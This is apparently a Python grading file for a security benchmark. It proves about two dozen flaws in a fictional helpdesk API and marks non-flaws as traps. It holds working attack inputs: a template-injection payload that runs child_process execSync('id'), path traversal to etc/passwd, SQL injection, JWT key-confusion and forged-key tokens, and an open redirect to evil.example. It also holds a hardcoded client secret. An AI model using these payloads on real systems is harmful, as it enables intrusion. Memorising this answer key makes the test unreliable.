"""The helpdesk's flaws, proved by hand."""
import json
from pathlib import Path
from urllib.parse import quote

from .kit import Proofs, b64, claims, hs256, our_key

PROOFS = Proofs()
flaw, trap = PROOFS.flaw, PROOFS.trap
CRED = json.loads((Path(__file__).resolve().parent.parent / "truth.json").read_text())["services"]["deskhand"]["credentials"]
A, B, ADMIN = ({"Authorization": CRED[k]["value"]} for k in ("a", "b", "admin"))
NORTH, SOUTH, JOINT = "/api/orgs/org_northwind", "/api/orgs/org_contoso", "/api/orgs/org_jointlab"


def ticket(s, org=NORTH, who=A, **more):
    return s.post(org + "/tickets", {"subject": "Broken chair", "body": "left leg", **more}, headers=who).json["data"]


def read(s, t, who=A):
    return s.get(f"/api/orgs/{t['orgId']}/tickets/{t['id']}", headers=who).json.get("data", {})


def patch(s, path, value, who):
    return s.call("PATCH", path, value, headers=who)


@flaw("ticket-other-org")
def _(s):
    return s.get(f"{SOUTH}/tickets/{ticket(s)['id']}", headers=B).status == 200


@flaw("ticket-change-org")
def _(s):
    t = ticket(s)
    patch(s, f"{SOUTH}/tickets/{t['id']}", {"subject": "Changed by b"}, B)
    return read(s, t)["subject"] == "Changed by b"


@flaw("ticket-drop-org")
def _(s):
    t = ticket(s)
    s.call("DELETE", f"{SOUTH}/tickets/{t['id']}", headers=B)
    return read(s, t)["deletedAt"] is not None


@flaw("comment-edit")
def _(s):
    t = ticket(s)
    c = s.post(f"/api/tickets/{t['id']}/comments", {"body": "mine"}, headers=A).json["data"]["id"]
    patch(s, "/api/comments/" + c, {"body": "of b"}, B)
    return "of b" in s.get(f"/api/tickets/{t['id']}/comments", headers=A).text


@flaw("filter-delete")
def _(s):
    f = s.post("/api/filters", {"name": "x", "query": "y"}, headers=A).json["data"]["id"]
    s.call("DELETE", "/api/filters/" + f, headers=B)
    return f not in s.get("/api/filters", headers=A).text


@flaw("attachment-read")
def _(s):
    a = s.post(f"/api/tickets/{ticket(s)['id']}/attachments", {"name": "x.txt", "content": "private"}, headers=A).json["data"]["id"]
    return s.get("/api/attachments/" + a, headers=A).status == 200 and "private" in s.get("/api/attachments/" + a, headers=B).text


@flaw("bulk-status")
def _(s):
    mine, theirs = ticket(s, SOUTH, B), ticket(s)
    s.post("/api/tickets/bulk", {"ticketIds": [mine["id"], theirs["id"]], "status": "solved"}, headers=B)
    return read(s, theirs)["status"] == "solved" and read(s, mine, B)["status"] == "solved"


@flaw("search-all-orgs")
def _(s):
    ticket(s, subject="zebra crossing")
    return "org_northwind" in s.get("/api/search?q=zebra", headers=B).text


@flaw("member-role")
def _(s):
    path = JOINT + "/members/usr_tariq"
    got = patch(s, path, {"role": "agent"}, A).status
    patch(s, path, {"role": "member"}, ADMIN)
    return got == 200


@flaw("audit-open")
def _(s):
    return s.get(NORTH + "/audit-log", headers=A).status == 200 == s.get(NORTH + "/audit-log", headers=ADMIN).status


@flaw("me-superuser")
def _(s):
    patch(s, "/api/me", {"superuser": True}, A)
    got = s.get("/api/me", headers=A).json["data"]["superuser"], s.get(SOUTH, headers=A).status
    patch(s, "/api/me", {"superuser": False}, A)
    return got == (True, 200)


@flaw("ticket-spread")
def _(s):
    t = ticket(s, orgId="org_contoso", authorId="usr_tariq", status="solved")
    return (t["orgId"], t["authorId"], t["status"]) == ("org_contoso", "usr_tariq", "solved") and read(s, t, B).get("subject") == "Broken chair"


@flaw("members-private")
def _(s):
    return "passwordHash" in s.get(NORTH + "/members", headers=A).text


@flaw("comments-open")
def _(s):
    return s.get(f"/api/tickets/{ticket(s)['id']}/comments").status == 200


@flaw("macro-code")
def _(s):
    def text(t):
        return s.post("/api/macros/preview", {"template": t}, headers=A).json.get("data", {}).get("text", "")
    return text("{{ 191*7 }}") == "1337" and "uid=" in text("{{ range.constructor(\"return process.mainModule.require('child_process').execSync('id').toString()\")() }}")


@flaw("file-up")
def _(s):
    return "root:" in s.get("/api/kb/download?file=" + quote("../" * 12 + "etc/passwd")).text


@flaw("status-sql")
def _(s):
    def found(status):
        return len(s.get(NORTH + "/tickets?status=" + quote(status), headers=A).json["data"])
    return found("open' and '1'='1") > 5 and found("open' and '1'='2") == 0


@flaw("out-anywhere")
def _(s):
    return s.get("/out?url=https://evil.example/").headers["Location"] == "https://evil.example/"


@flaw("origin-any")
def _(s):
    got = s.get("/api/me", headers={**A, "Origin": "https://evil.example"}).headers
    return got["Access-Control-Allow-Origin"] == "https://evil.example" and got["Access-Control-Allow-Credentials"] == "true"


def own(who=A):
    return claims(who["Authorization"].split(" ")[1])


@flaw("key-confused")
def _(s):
    import subprocess, sys  # the public key of the JWK set as PEM
    jwk = s.get("/.well-known/jwks.json").json["keys"][0]
    program = ("const c=require('crypto');process.stdout.write(c.createPublicKey({key:JSON.parse(process.argv[1]),format:'jwk'})"
               ".export({type:'spki',format:'pem'}))")
    pem = subprocess.run(["tests/vendors/node.sh", "-e", program, json.dumps(jwk)], capture_output=True, text=True, check=True).stdout
    return s.get("/api/me", token=hs256(own(), pem)).status == 200


@flaw("key-embedded")
def _(s):
    return s.get("/api/me", token=our_key().sign(own(), jwk=our_key().jwk(), kid="ours")).status == 200


@flaw("stack-shown")
def _(s):
    return "SyntaxError" in s.get(NORTH + "/tickets?cursor=%5B", headers=A).text


@flaw("limit-free")
def _(s):
    return len(s.get(NORTH + "/tickets?limit=100000", headers=A).json.get("data", [])) > 100


@flaw("body-free")
def _(s):
    return s.post(f"/api/tickets/{ticket(s)['id']}/attachments", {"name": "x", "content": "x" * 2_000_000}, headers=A).status == 201


@flaw("revoke-kept")
def _(s):
    t = s.post("/api/me/tokens", {"name": "x"}, headers=A).json["data"]
    assert s.get("/api/me", token=t["token"]).status == 200
    assert s.call("DELETE", "/api/me/tokens/" + t["id"], headers=A).status == 204
    return s.get("/api/me", token=t["token"]).status == 200


@trap("public-kb")
def _(s):
    return s.get("/api/kb/articles").status == 200 == s.get("/api/kb/download?file=sla.txt").status and "@" in s.get("/api/kb/contacts").text


@trap("status-star")
def _(s):
    got = s.get("/api/status", headers={"Origin": "https://evil.example"})
    return got.headers["Access-Control-Allow-Origin"] == "*" and got.headers["Access-Control-Allow-Credentials"] is None and got.text != s.get("/api/status").text


@trap("joint-lab")
def _(s):
    t = ticket(s, JOINT)
    patch(s, f"{JOINT}/tickets/{t['id']}", {"status": "pending"}, B)
    return read(s, t, B)["status"] == "pending" and s.get(f"/api/tickets/{t['id']}/comments", headers=B).status == 200


@trap("deleted-readable")
def _(s):
    t = ticket(s)
    return s.call("DELETE", f"{NORTH}/tickets/{t['id']}", headers=A).status == 204 and read(s, t)["deletedAt"] and t["id"] not in s.get(NORTH + "/tickets", headers=A).text


@trap("bulk-not-ok")
def _(s):
    t = ticket(s)
    got = s.post("/api/tickets/bulk", {"ticketIds": [t["id"]], "status": "solved"}, headers=B)
    return got.status == 200 and got.json["ok"] is False and read(s, t)["status"] == "open"


@trap("query-echoed")
def _(s):
    got = s.get("/api/search?q=" + quote("<b>'\"{{7*7}}"), headers=A)
    return got.status == 200 and got.json["query"] == "<b>'\"{{7*7}}" and got.json["data"] == []


@trap("owner-deletes-comment")
def _(s):
    c = s.post(f"/api/tickets/{ticket(s)['id']}/comments", {"body": "mine"}, headers=A).json["data"]["id"]
    return s.call("DELETE", "/api/comments/" + c, headers=B).status == 404 and s.call("DELETE", "/api/comments/" + c, headers=ADMIN).status == 204


@trap("patch-ignored")
def _(s):
    t = ticket(s)
    got = patch(s, f"{NORTH}/tickets/{t['id']}", {"orgId": "org_contoso", "authorId": "usr_tariq", "id": "tkt_1", "createdAt": "1999"}, A)
    return got.status == 200 and got.json["data"] == t


@trap("export-slow")
def _(s):
    got = s.post(NORTH + "/exports", {}, headers=A)
    return got.status == 202 and got.seconds > 0.35


@trap("members-mail")
def _(s):
    return "tariq@desk.example" in s.get(JOINT + "/members", headers=A).text and s.get(SOUTH + "/members", headers=A).status == 404


@trap("token-once")
def _(s):
    made = s.post("/api/me/tokens", {"name": "x"}, headers=A)
    return made.json["data"]["token"].count(".") == 2 and made.json["data"]["token"] not in s.get("/api/me/tokens", headers=A).text


@trap("client-token")
def _(s):
    got = s.call("POST", "/oauth/token", form={"grant_type": "client_credentials", "client_id": "dhc_northwind_sync", "client_secret": "dhs_7f21c0aa59e84b3d9c6ee1b2"})
    return s.get("/api/me", token=got.json["access_token"]).json["data"]["id"] == "usr_ingrid"
